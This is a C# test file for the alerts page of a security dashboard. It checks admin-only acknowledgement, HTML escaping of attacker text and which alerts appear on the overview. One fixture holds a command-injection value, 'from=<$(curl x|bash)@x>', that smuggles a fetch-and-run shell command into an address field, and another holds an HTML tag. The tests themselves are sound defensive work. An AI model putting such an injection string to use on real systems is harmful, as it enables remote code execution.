using AttackDash.Storage.Alerts;
using AttackDash.Web.Alerts.Pages;
using AttackDash.Web.Components.Pages.Overview;

namespace AttackDash.Web.Tests.Pages;

/// <summary>The Alerts page and the overview's open alerts: shown as stored, acknowledged by admins only.</summary>
public sealed class AlertPageTests : PageTest
{
    private static readonly DateTimeOffset Seen = new(2026, 12, 4, 1, 2, 3, TimeSpan.Zero);

    private void AddAlerts()
    {
        Store.Alerts.Add(new AlertView(1, Seen, AlertKinds.Injection, "185.220.101.6", Seen, null, "from=<$(curl x|bash)@x>", 0, null, null));
        Store.Alerts.Add(new AlertView(2, Seen, AlertKinds.PossibleCompromise, "185.220.101.7", Seen, "<b>admin</b>", "AUTH=server, relay=[185.220.101.7]", 57, null, null));
    }

    [Fact]
    public void An_admin_acknowledges_an_alert_on_the_alerts_page()
    {
        AddAlerts();
        SignIn("admin");
        var cut = RenderPage<AlertList>();
        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("tr.open").Count));
        Assert.Contains("&lt;b&gt;admin&lt;/b&gt;", cut.Markup, StringComparison.Ordinal);   // attacker text stays text

        cut.Find("tr[data-alert='2'] button.ack").Click();

        cut.WaitForAssertion(() => Assert.Contains("acknowledge alert 2 by alice", Store.Changes));
        cut.WaitForAssertion(() => Assert.Single(cut.FindAll("tr.open")));
    }

    [Fact]
    public void A_viewer_cannot_acknowledge_an_alert()
    {
        AddAlerts();
        SignIn("viewer");
        var cut = RenderPage<AlertList>();
        cut.WaitForElement("tr[data-alert='2'] button.ack").Click();
        cut.WaitForAssertion(() => Assert.Contains("Only admins", cut.Find("#alerts-message").TextContent, StringComparison.Ordinal));
        Assert.DoesNotContain(Store.Changes, c => c.StartsWith("acknowledge", StringComparison.Ordinal));
    }

    [Fact]
    public void An_open_compromise_alert_stays_on_the_overview_and_an_injection_alert_does_not()
    {
        AddAlerts();
        SignIn("viewer");
        var cut = RenderPage<Overview>();
        cut.WaitForAssertion(() => Assert.Contains("1 unacknowledged alert of a possible compromise", cut.Find("#open-alerts").TextContent, StringComparison.Ordinal));
        Assert.Contains("185.220.101.7", cut.Find("#open-alerts").TextContent, StringComparison.Ordinal);
        Assert.DoesNotContain("185.220.101.6", cut.Find("#open-alerts").TextContent, StringComparison.Ordinal);
    }
}
